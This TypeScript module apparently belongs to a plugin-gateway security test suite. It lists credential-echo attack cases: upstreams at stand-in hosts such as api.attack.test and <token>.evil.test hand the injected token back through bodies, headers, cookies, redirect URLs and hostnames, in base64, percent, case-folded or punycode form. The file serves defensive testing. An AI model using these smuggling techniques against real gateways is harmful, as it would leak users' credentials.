/**
 * @module host/security-report/cases/credential-echo
 * The upstream the plugin may reach hands back the credential the gateway injected: raw, JSON-
 * escaped, as bytes, base64 and base64url (of the token, of "Bearer token", of "user:token" in HTTP
 * Basic), in a header value or name, the status line, a cookie, a redirect's URL or host; and
 * case-folded, percent-encoded byte by byte, or punycoded. The plugin returns all it saw (status,
 * status text, final URL, headers, body as text and as bytes, any error), so the common check for
 * secrets judges what plugin code could read.
 */
import type { AttackCase, Observation } from '../catalogue.js';

/** Everything plugin code can read of an answer from /echo/:form: its text, its bytes, and its JSON decoded (escapes undone). */
const READ_ALL = `async (ctx, args) => {
  let res;
  try { res = await ctx.http('https://api.attack.test/echo/' + args.form); } catch (e) { return { refused: String(e && e.message) }; }
  const bytes = await res.bytes();
  let json = null;
  try { json = await res.json(); } catch (e) { /* not JSON */ }
  return { status: res.status, statusText: res.statusText, url: res.url, headers: res.headers.toJSON(), body: res.body.slice(0, 2000), json, bytes: bytes.toBase64().slice(0, 4000) };
}`;

function echoed(id: string, form: string, tries: string, extra: Partial<AttackCase> = {}): AttackCase {
  return {
    id,
    class: 'credential-echo',
    origin: 'new',
    tries,
    handler: READ_ALL,
    args: { form },
    expected: { outcome: 'any' },
    ...extra,
  };
}

/** The request that followed a cross-origin redirect carried no credential. */
function noCredentialAcrossOrigins(obs: Observation): string | undefined {
  const landed = obs.upstream.find((r) => r.path === '/landing');
  if (!landed) return 'the redirect was not followed to the other declared host';
  return landed.headers['authorization'] === undefined
    ? undefined
    : 'the credential crossed to another origin with the redirect';
}

export const CREDENTIAL_ECHO_CASES: AttackCase[] = [
  echoed('echo-raw-in-body', 'raw', 'The upstream writes the token it received into a JSON body.'),
  echoed(
    'echo-json-escaped-every-char',
    'json-escaped',
    'The token in a JSON body with every character written as \\uXXXX.',
  ),
  echoed('echo-in-binary-body', 'bytes', 'The token inside a body that is not UTF-8 (plugin code reads it as bytes).'),
  echoed('echo-base64', 'base64', 'The token base64-encoded.'),
  echoed('echo-base64url', 'base64url', 'The token base64url-encoded.'),
  echoed(
    'echo-base64-of-bearer-line',
    'base64-header',
    'The whole Authorization value ("Bearer <token>") base64-encoded: the token at another alignment.',
  ),
  echoed(
    'echo-basic-header',
    'header',
    'HTTP Basic: the upstream echoes "Basic base64(user:token)" as it received it.',
    { auth: 'basic' },
  ),
  echoed('echo-basic-token-raw', 'raw', 'HTTP Basic: the upstream decodes user:token and echoes the password.', {
    auth: 'basic',
  }),
  echoed('echo-in-header-value', 'in-header', 'The token as a response header value.'),
  echoed('echo-in-status-text', 'in-status-text', "The token in the status line's reason phrase."),
  echoed('echo-in-set-cookie', 'in-set-cookie', 'The token as a session cookie.'),
  echoed(
    'echo-in-redirect-url',
    'in-location',
    'A redirect to the same origin with the token in the query: the final URL holds it.',
  ),
  echoed('echo-lower-case', 'lower', 'The token lower-cased in a body.'),
  echoed('echo-upper-case', 'upper', 'The token upper-cased in a body.'),
  echoed(
    'echo-percent-every-byte',
    'percent',
    'The token percent-encoded byte by byte (%57%62…), which encodeURIComponent never writes.',
  ),
  echoed('echo-percent-lower-hex', 'percent-lower', 'The token percent-encoded byte by byte in lower-case hex.'),
  echoed('echo-in-header-value-lower-case', 'in-header-lower', 'The token lower-cased in a response header value.'),
  echoed(
    'echo-in-header-name',
    'in-header-name',
    "The token inside a response header's name (header names reach the plugin lower-cased).",
  ),
  echoed(
    'echo-in-redirect-url-lower-case',
    'in-location-lower',
    'A same-origin redirect whose query holds the token lower-cased: the final URL.',
  ),
  echoed(
    'echo-in-redirect-url-percent',
    'in-location-percent',
    'A same-origin redirect whose query holds the token percent-encoded byte by byte.',
  ),
  echoed(
    'echo-in-redirect-host',
    'in-redirect-host',
    'A redirect to https://<token>.evil.test/: refused, and the refusal names the host, lower-cased by the URL parser.',
  ),
  echoed(
    'echo-in-redirect-host-punycode',
    'in-redirect-punycode',
    'A redirect to a host of the token and a non-ASCII letter: the refusal names it punycoded (xn--<token lower-cased>-…).',
  ),
  {
    id: 'echo-redirect-to-other-origin',
    class: 'credential-echo',
    origin: 'new',
    tries:
      'The upstream redirects to another declared host that echoes headers, to make the gateway carry the credential across origins.',
    handler: `async (ctx, args) => { const res = await ctx.http('https://api.attack.test/redirect?status=307&to=' + encodeURIComponent('https://other.attack.test/landing')); return { status: res.status, url: res.url, body: res.body }; }`,
    expected: { outcome: 'result', upstreamAtMost: 2 },
    check: noCredentialAcrossOrigins,
  },
];
